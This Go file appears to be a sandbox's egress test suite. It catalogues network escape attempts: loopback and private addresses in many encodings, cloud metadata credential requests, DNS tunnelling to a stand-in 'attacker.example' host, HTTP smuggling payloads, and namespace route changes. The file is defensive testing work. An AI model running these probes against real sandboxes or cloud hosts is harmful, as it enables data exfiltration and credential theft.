package attack

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// The layers of a sandbox with a network.
const (
	// Gateway is the process outside that asks the policy.
	Gateway = "network policy"
	// Rules are the nf_tables rules of the sandbox's network namespace, with its ports and routes.
	Rules = "network rules"
)

// servicePort is a port of the host's own services, which no policy of an attacked sandbox opens.
const servicePort = 7

// PortVariable and SocketVariable are the environment variables that tell attacks of [Egress] where
// a server listens on the host: the port on its loopback, and the name of its abstract Unix socket.
const (
	PortVariable   = "SANDBOXD_ATTACK_PORT"
	SocketVariable = "SANDBOXD_ATTACK_SOCKET"
)

// serviceAddress is policy.HostAddress; the attacker knows it from its /etc/hosts or DNS.
const serviceAddress = "192.0.2.2"

// attackedName is a name that no policy of an attacked sandbox allows.
const attackedName = "exfiltrated.attacker.example."

// Egress is every attack on the network of a sandbox whose policy allows nothing. Where such an
// attack works, something answered that the policy does not allow, or the sandbox's namespace was
// changed.
//
// In their control such a namespace has neither rules nor gateway, and [Everything] answers in it.
func Egress() []Attack {
	var all []Attack
	for _, part := range [][]Attack{
		destinations(), metadata(), transports(), names(), services(), ownPorts(), sources(), power(),
	} {
		all = append(all, part...)
	}
	return all
}

// UpName is the check that a gateway serves the sandbox: where it does not work, no attack of
// [Egress] proves anything.
const UpName = "network-is-up"

func networkIsUp() Attack {
	return Attack{UpName, Gateway, func() error {
		return errors.Join(answered(netip.MustParseAddrPort("192.0.2.53:53")), accepted("1.1.1.1:443"))
	}}
}

func hostPort() string {
	if p := os.Getenv(PortVariable); p != "" {
		return p
	}
	return strconv.Itoa(servicePort)
}

// destinations are connections to places that no policy opens by a name.
func destinations() []Attack {
	var all []Attack
	for name, to := range map[string]string{
		// The host's loopback, where a server listens, in every form.
		"loopback": "127.0.0.1:HOST", "loopback-other": "127.9.9.9:HOST", "loopback6": "[::1]:HOST", "loopback-mapped": "[::ffff:127.0.0.1]:HOST",
		"loopback-compatible": "[::127.0.0.1]:HOST", "loopback-nat64": "[64:ff9b::7f00:1]:HOST", "loopback-6to4": "[2002:7f00:1::1]:HOST",
		"unspecified": "0.0.0.0:HOST", "unspecified6": "[::]:HOST", "unspecified-mapped": "[::ffff:0.0.0.0]:HOST", "this-network": "0.1.2.3:80",
		"loopback-translated": "[64:ff9b:1::7f00:1]:HOST",
		// Ports of the address of the host's services, and of the nameserver.
		"service-port-behind": serviceAddress + ":HOST", "service-other-port": serviceAddress + ":80", "nameserver-port": "192.0.2.53:80",
		// Neighbours of the host.
		"private-10": "10.0.0.1:80", "private-172": "172.16.0.1:80", "private-192": "192.168.0.1:443", "shared": "100.64.0.1:80",
		"link-local": "169.254.1.1:80", "private6": "[fd00::1]:80", "link-local6": "[fe80::1%lo]:80", "site-local6": "[fec0::1]:80",
		"private-mapped": "[::ffff:10.0.0.1]:80", "private-compatible": "[::10.0.0.1]:80", "private-nat64": "[64:ff9b::a00:1]:80",
		"private-6to4": "[2002:a00:1::1]:80", "private-teredo": "[2001:0:a00:1::f5ff:fffe]:80", "private-isatap": "[2606:4700::5efe:a00:1]:80",
		"benchmark": "198.18.0.1:80", "documentation": "203.0.113.1:80", "reserved": "240.0.0.1:80",
		"protocol-assignments": "192.0.0.1:80", "relay-6to4": "192.88.99.1:80",
		// The Internet, without a name: no rule has these.
		"public": "1.1.1.1:443", "public6": "[2606:4700::1111]:443", "public-mapped": "[::ffff:1.1.1.1]:443", "public-ssh": "1.1.1.1:22",
		"public-plain": "1.1.1.1:80", "dns-over-tls": "1.1.1.1:853",
	} {
		layer := Gateway
		switch strings.TrimSuffix(to, ":HOST") {
		case "127.0.0.1", "127.9.9.9", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "[::]", "[::ffff:0.0.0.0]":
			// The sandbox has a loopback of its own.
			layer = Namespaces
		}
		all = append(all, Attack{"egress-" + name, layer, func() error { return reach(strings.ReplaceAll(to, "HOST", hostPort()), plain) }})
	}
	return sorted(all)
}

// metadata are requests for the credentials of clouds.
func metadata() []Attack {
	var all []Attack
	for name, host := range map[string]string{
		"aws": "169.254.169.254", "aws6": "[fd00:ec2::254]", "ecs": "169.254.170.2", "eks": "169.254.170.23", "eks6": "[fd00:ec2::23]",
		"alibaba": "100.100.100.200", "oracle": "192.0.0.192", "azure": "168.63.129.16", "google6": "[fd20:ce::254]",
		"mapped": "[::ffff:169.254.169.254]", "nat64": "[64:ff9b::a9fe:a9fe]",
	} {
		all = append(all, Attack{"egress-metadata-" + name, Gateway, func() error {
			return reach(host+":80", []byte("GET /latest/meta-data/ HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n"))
		}})
	}
	return sorted(all)
}

// transports are ways around a connection of TCP.
func transports() []Attack {
	udp := func(name, to string) Attack {
		return Attack{"egress-" + name, Rules, func() error { return ask(to, plain) }}
	}
	prepared := func(name, layer, to string, prepare func(fd int) error) Attack {
		return Attack{"egress-" + name, layer, func() error { return reach(to, plain, prepare) }}
	}
	return []Attack{
		udp("udp-quic", "1.1.1.1:443"), udp("udp6-quic", "[2606:4700::1111]:443"), udp("udp-time", "1.1.1.1:123"), udp("udp-private", "10.0.0.1:443"),
		udp("udp-metadata", "169.254.169.254:123"), udp("udp6-private", "[fd00::1]:443"), udp("udp-mapped", "[::ffff:10.0.0.1]:443"),
		udp("udp-service", serviceAddress+":123"),
		udp("udp-multicast", "224.0.0.251:5353"), udp("udp6-multicast", "[ff02::fb%lo]:5353"), udp("udp-broadcast", "255.255.255.255:123"),
		{"egress-ping", Rules, func() error { return ping(unix.AF_INET, "10.0.0.1:0") }},
		{"egress-ping6", Rules, func() error { return ping(unix.AF_INET6, "[fd00::1]:0") }},
		// Options of IP that lead a packet through other hosts (RFC 791, RFC 8754).
		prepared("source-route", Filter, "1.1.1.1:80", func(fd int) error {
			return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, "\x83\x07\x04\x0a\x00\x00\x01\x00") // loose, over 10.0.0.1
		}),
		prepared("segment-route6", Rules, "[2606:4700::1111]:80", func(fd int) error {
			header := append([]byte{0, 2, 4, 0, 0, 0, 0, 0}, netip.MustParseAddr("fd00::1").AsSlice()...)
			return unix.SetsockoptString(fd, unix.IPPROTO_IPV6, unix.IPV6_RTHDR, string(header))
		}),
		prepared("bind-to-device", Gateway, "10.0.0.1:80", func(fd int) error { return unix.BindToDevice(fd, "lo") }),
		{"egress-fast-open", Gateway, fastOpen},
		{"egress-mptcp", Filter, func() error { return reachBy("10.0.0.1:80", 262, plain) }},
		// The names of abstract sockets belong to a network namespace: a sandbox does not see those of
		// the host.
		{"egress-abstract-socket", Namespaces, func() error {
			fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return unix.Connect(fd, &unix.SockaddrUnix{Name: abstractName()})
		}},
	}
}

func abstractName() string {
	if n := os.Getenv(SocketVariable); n != "" {
		return n
	}
	return "@sandboxd-attack"
}

// names are questions that carry data out, and other resolvers.
func names() []Attack {
	question := func(name, server string, kind int, t dnsmessage.Type, host string) Attack {
		return Attack{"egress-dns-" + name, Gateway, func() error { return resolve(netip.MustParseAddrPort(server), kind, host, t) }}
	}
	const nameserver, other = "192.0.2.53:53", "8.8.8.8:53"
	long := strings.Repeat("6578666974726174656421", 5)[:60]
	return []Attack{
		question("tunnel", nameserver, unix.SOCK_DGRAM, dnsmessage.TypeA, long+"."+attackedName),
		question("tunnel-text", nameserver, unix.SOCK_DGRAM, dnsmessage.TypeTXT, long+"."+attackedName),
		question("tunnel6", nameserver, unix.SOCK_DGRAM, dnsmessage.TypeAAAA, attackedName),
		question("tunnel-stream", nameserver, unix.SOCK_STREAM, dnsmessage.TypeA, attackedName),
		question("mail", nameserver, unix.SOCK_DGRAM, dnsmessage.TypeMX, attackedName),
		question("alias", nameserver, unix.SOCK_DGRAM, dnsmessage.TypeCNAME, attackedName),
		question("reverse", nameserver, unix.SOCK_DGRAM, dnsmessage.TypePTR, "1.0.0.10.in-addr.arpa."),
		question("below-service", nameserver, unix.SOCK_DGRAM, dnsmessage.TypeA, "x.host.sandboxd.internal."),
		question("metadata", nameserver, unix.SOCK_DGRAM, dnsmessage.TypeA, "metadata.google.internal."),
		question("localhost", nameserver, unix.SOCK_DGRAM, dnsmessage.TypeA, "printer.local."),
		question("other-server", other, unix.SOCK_DGRAM, dnsmessage.TypeA, attackedName),
		question("other-server-stream", other, unix.SOCK_STREAM, dnsmessage.TypeA, attackedName),
		question("other-server6", "[2606:4700::1111]:53", unix.SOCK_DGRAM, dnsmessage.TypeA, attackedName),
		question("private-server", "10.0.0.1:53", unix.SOCK_DGRAM, dnsmessage.TypeA, attackedName),
		// A message that is no question of DNS gets no answer from the server that it was sent to.
		{"egress-dns-port-of-other", Gateway, func() error { return reach("1.1.1.1:53", plain) }},
		{"egress-dns-over-tls-named", Gateway, func() error { return reach("1.1.1.1:853", clientHello("one.one.one.one")) }},
		{"egress-dns-over-https", Gateway, func() error { return reach("1.1.1.1:443", clientHello("one.one.one.one")) }},
		{"egress-tls-unnamed", Gateway, func() error { return reach("1.1.1.1:443", clientHello("")) }},
		// The name of the host's services opens no other address.
		{"egress-tls-borrowed-name", Gateway, func() error { return reach("1.1.1.1:443", clientHello("host.sandboxd.internal")) }},
		{"egress-http-borrowed-name", Gateway, func() error {
			return reach("1.1.1.1:80", []byte("GET / HTTP/1.1\r\nHost: host.sandboxd.internal\r\n\r\n"))
		}},
	}
}

// services are requests to the address of the host's services, and by other names.
func services() []Attack {
	at := serviceAddress + ":" + strconv.Itoa(servicePort)
	request := func(name, head string) Attack {
		return Attack{"egress-service-" + name, Gateway, func() error { return reach(at, []byte(strings.ReplaceAll(head, "\n", "\r\n")+"\r\n\r\n")) }}
	}
	return []Attack{
		request("other-host", "GET / HTTP/1.1\nHost: attacker.example"),
		request("host-address", "GET / HTTP/1.1\nHost: 127.0.0.1"),
		request("other-host-port", "GET / HTTP/1.1\nHost: host.sandboxd.internal:80"),
		request("two-hosts", "GET / HTTP/1.1\nHost: host.sandboxd.internal:7\nHost: attacker.example"),
		request("absolute", "GET http://169.254.169.254/ HTTP/1.1\nHost: host.sandboxd.internal:7"),
		request("tunnel", "CONNECT 10.0.0.1:80 HTTP/1.1\nHost: 10.0.0.1:80"),
		request("smuggled", "POST / HTTP/1.1\nHost: host.sandboxd.internal:7\nContent-Length: 4\nTransfer-Encoding: chunked"),
		request("two-lengths", "POST / HTTP/1.1\nHost: host.sandboxd.internal:7\nContent-Length: 4\nContent-Length: 5"),
		request("folded", "GET / HTTP/1.1\nHost: host.sandboxd.internal:7\n folded"),
		request("upgrade", "GET / HTTP/1.1\nHost: host.sandboxd.internal:7\nConnection: Upgrade\nUpgrade: h2c"),
		request("proxy-protocol", "PROXY TCP4 10.0.0.1 10.0.0.1 1 80"),
		{"egress-service-tls-other-name", Gateway, func() error { return reach(at, clientHello("attacker.example")) }},
	}
}

// ownPorts are attempts to reach the gateway's sockets inside, and to bind their ports.
func ownPorts() []Attack {
	var all []Attack
	for name, host := range map[string]string{"loopback": "127.0.0.1", "loopback6": "[::1]", "own": "192.0.2.1", "own6": "[2001:db8::1]"} {
		all = append(
			all,
			Attack{"egress-own-port-stream-" + name, Rules, func() error { return accepted(host + ":1") }},
			Attack{"egress-own-port-dns-" + name, Rules, func() error {
				return answered(netip.MustParseAddrPort(host + ":1"))
			}},
			Attack{"egress-bind-port-stream-" + name, Rules, func() error { return bind(unix.SOCK_STREAM, host+":2") }},
			Attack{"egress-bind-port-dns-" + name, Rules, func() error { return bind(unix.SOCK_DGRAM, host+":2") }},
		)
	}
	return sorted(all)
}

// sources are connections from addresses that do not belong to the sandbox. The rules refuse them
// before the gateway sees any: such an attack works if the connection is accepted.
func sources() []Attack {
	from := func(name, source, to string) Attack {
		return Attack{"egress-source-" + name, Rules, func() error {
			return accepted(to, func(fd int) error {
				at := netip.MustParseAddrPort(source)
				if at.Addr().Is4() {
					return unix.Bind(fd, sockaddr(at))
				}
				// IPv6 allows a bind to an address that is not local with IPV6_FREEBIND only.
				if err := unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_FREEBIND, 1); err != nil {
					return err
				}
				return unix.Bind(fd, sockaddr(at))
			})
		}}
	}
	at := serviceAddress + ":" + strconv.Itoa(servicePort)
	return []Attack{
		from("loopback", "127.0.0.1:0", at), from("neighbour", "10.0.0.7:0", at), from("public", "1.1.1.1:0", at), from("service", serviceAddress+":0", at),
		from("nameserver", "192.0.2.53:0", at), from("loopback6", "[::1]:0", "[2606:4700::1112]:80"),
		from("public6", "[2606:4700::1111]:0", "[2606:4700::1112]:80"), from("private6", "[fd00::7]:0", "[fd00::1]:80"),
	}
}

// power are changes of the namespace, which the launcher's user namespace owns.
func power() []Attack {
	all := []Attack{
		{"egress-delete-route", Capabilities, func() error { return changeRoute(unix.RTM_DELROUTE, unix.AF_INET) }},
		{"egress-delete-route6", Capabilities, func() error { return changeRoute(unix.RTM_DELROUTE, unix.AF_INET6) }},
		{"egress-add-route6", Capabilities, func() error {
			return routeRequest(unix.RTM_NEWROUTE, []byte{unix.AF_INET6, 128, 0, 0, unix.RT_TABLE_MAIN, unix.RTPROT_STATIC, unix.RT_SCOPE_UNIVERSE, unix.RTN_BLACKHOLE, 0, 0, 0, 0},
				attribute(unix.RTA_DST, netip.MustParseAddr("fd00::1").AsSlice()))
		}},
		{"egress-delete-address", Capabilities, func() error {
			own := []byte{192, 0, 2, 1}
			return routeRequest(unix.RTM_DELADDR, []byte{unix.AF_INET, 32, 0, 0, loopbackIndex, 0, 0, 0}, attribute(unix.IFA_LOCAL, own))
		}},
		{"egress-add-address6", Capabilities, func() error {
			return routeRequest(unix.RTM_NEWADDR, []byte{unix.AF_INET6, 128, 0, 0, loopbackIndex, 0, 0, 0},
				attribute(unix.IFA_ADDRESS, netip.MustParseAddr("fd00::1").AsSlice()))
		}},
		{"egress-link-down", Capabilities, func() error {
			message := make([]byte, unix.SizeofIfInfomsg)
			message[4] = loopbackIndex
			message[12] = unix.IFF_UP // in the mask, and not in the flags
			return routeRequest(unix.RTM_SETLINK, message)
		}},
		{"egress-link-mtu", Capabilities, func() error {
			message := make([]byte, unix.SizeofIfInfomsg)
			message[4] = loopbackIndex
			return routeRequest(unix.RTM_SETLINK, message, attribute(unix.IFLA_MTU, binary.NativeEndian.AppendUint32(nil, 1280)))
		}},
		{"egress-add-rule6", Capabilities, func() error {
			return routeRequest(unix.RTM_NEWRULE, []byte{unix.AF_INET6, 0, 0, 0, unix.RT_TABLE_MAIN, 0, 0, 1, 0, 0, 0, 0})
		}},
		{"egress-name-namespace", Capabilities, nameNamespace},
		{"egress-ioctl-address", Capabilities, func() error {
			return interfaceIoctl(unix.SIOCSIFADDR, func(r *unix.Ifreq) error { return r.SetInet4Addr([]byte{10, 0, 0, 9}) })
		}},
		{"egress-ioctl-mtu", Capabilities, func() error {
			return interfaceIoctl(unix.SIOCSIFMTU, func(r *unix.Ifreq) error { r.SetUint32(1280); return nil })
		}},
		{"egress-ioctl-route", Capabilities, ioctlRoute},
		{"egress-transparent6", Capabilities, func() error {
			return onSocket(unix.AF_INET6, 0, unix.IPPROTO_IPV6, unix.IPV6_TRANSPARENT, 1)
		}},
	}
	for name, file := range map[string]string{
		"ports": "ipv4/ip_unprivileged_port_start", "bind-foreign": "ipv4/ip_nonlocal_bind", "bind-foreign6": "ipv6/ip_nonlocal_bind",
		"forward": "ipv4/conf/lo/forwarding", "forward6": "ipv6/conf/all/forwarding", "source-routes": "ipv4/conf/all/accept_source_route",
		"spoofing": "ipv4/conf/all/rp_filter", "disable6": "ipv6/conf/lo/disable_ipv6", "route-local": "ipv4/conf/all/route_localnet", "fast-open": "ipv4/tcp_fastopen",
	} {
		all = append(all, Attack{"egress-sysctl-" + name, ReadOnly, func() error { return writeBack("/proc/sys/net/" + file) }})
	}
	for name, file := range map[string]string{"mtu": "mtu", "queue": "tx_queue_len", "flags": "flags"} {
		all = append(all, Attack{"egress-sysfs-" + name, ReadOnly, func() error { return writeBack("/sys/class/net/lo/" + file) }})
	}
	slices.SortStableFunc(all, func(a, b Attack) int { return strings.Compare(a.Name, b.Name) })
	return all
}

const loopbackIndex = 1

// changeRoute adds or deletes the route that makes every destination of a family local.
func changeRoute(kind uint16, family byte) error {
	return routeRequest(kind, []byte{family, 0, 0, 0, unix.RT_TABLE_MAIN, unix.RTPROT_BOOT, unix.RT_SCOPE_HOST, unix.RTN_LOCAL, 0, 0, 0, 0},
		attribute(unix.RTA_OIF, binary.NativeEndian.AppendUint32(nil, loopbackIndex)))
}

// nameNamespace gives the namespace an id in itself, by which other requests could name it.
func nameNamespace() error {
	fd, err := unix.Open("/proc/self/ns/net", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	const anyID = 0xffffffff
	return routeRequest(unix.RTM_NEWNSID, []byte{unix.AF_UNSPEC, 0, 0, 0}, attribute(unix.NETNSA_FD, binary.NativeEndian.AppendUint32(nil, uint32(fd))),
		attribute(unix.NETNSA_NSID, binary.NativeEndian.AppendUint32(nil, anyID)))
}

func interfaceIoctl(request uint, change func(*unix.Ifreq) error) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	r, err := unix.NewIfreq("lo")
	if err != nil {
		return err
	}
	if err := change(r); err != nil {
		return err
	}
	return unix.IoctlIfreq(fd, request, r)
}

// ioctlRoute adds a route in the old way. A kernel that would do it finds the empty one invalid.
func ioctlRoute() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	var entry [120]byte // struct rtentry
	return reached(raw(unix.SYS_IOCTL, uintptr(fd), unix.SIOCADDRT, address(&entry[0])))
}

// writeBack writes a file's own bytes to it, which changes nothing.
func writeBack(file string) error {
	text, err := os.ReadFile(file)
	if err != nil {
		return err
	}
	return write(file, string(bytes.TrimSpace(text)))
}

// plain is a request in neither TLS nor HTTP, the protocols that name their host.
var plain = []byte("\x00sandboxd attack\n")

var errNothing = errors.New("the connection ended without an answer")

// gatewaysRefusal returns the gateway's own answer to an HTTP request as an error.
func gatewaysRefusal(answer []byte) error {
	for _, status := range []string{"403", "400"} {
		if bytes.HasPrefix(answer, []byte("HTTP/1.1 "+status)) {
			return fmt.Errorf("answered %s", status)
		}
	}
	return nil
}
